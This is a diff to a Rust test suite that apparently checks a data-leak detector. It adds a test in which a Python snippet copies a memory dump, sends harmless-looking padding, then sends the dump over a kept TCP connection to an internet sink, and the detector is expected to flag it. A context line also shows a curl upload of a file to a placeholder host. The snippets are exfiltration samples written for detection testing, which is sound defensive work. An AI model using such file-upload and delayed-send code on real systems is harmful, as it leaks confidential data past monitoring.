@@ -22,6 +22,7 @@ pub(super) const ALL: &[Shared] = &[
     ("local::next_terminal_is_clean", next_terminal_is_clean),
     ("local::fork_inherits", fork_inherits),
     ("local::exec_drops_memory", exec_drops_memory),
+    ("local::read_again_later", read_again_later),
     ("local::opened_elsewhere", opened_elsewhere),
 ];
 
@@ -120,6 +121,27 @@ os.execlp('curl', 'curl', '-sS', '-T', '{other}', f'http://{{host}}:{{port}}/up'
     scene.no_alert(&dump, Severity::Info);
     let sent = scene.agent.steps_where(|s| s.kind == StepKind::Sent && s.pid == Some(pid));
     assert!(sent.is_empty(), "exec drops what was read: {sent:#?}");
+}
+
+/// A service has passed on what it had, says other things on a connection that it keeps, and then reads the dump once more.
+fn read_again_later(scene: &Scene<'_>) {
+    let dump = scene.core();
+    let (mut sink, port) = scene.sink(Internet, Production, dump.size + 200);
+    by_python(
+        scene,
+        &dump.path,
+        port,
+        "import time
+service = socket.create_connection((host, int(port)))
+open(path + '.copy', 'wb').write(open(path, 'rb').read())
+time.sleep(6)
+service.sendall(b'all is well' + b'.' * 189)
+time.sleep(1)
+service.sendall(open(path, 'rb').read())",
+    );
+    assert!(sink.within(crate::harness::scene::SOON).success());
+    let out = step(StepKind::Sent).via(Via::Tcp).zones("production", "internet").bytes(dump.size);
+    scene.alerts(&dump, "dump-left-isolation", Severity::Critical, &out.sure(Confidence::Direct));
 }
 
 /// What terminal scripts begin with. A terminal without echo, that lets bytes pass as they are.
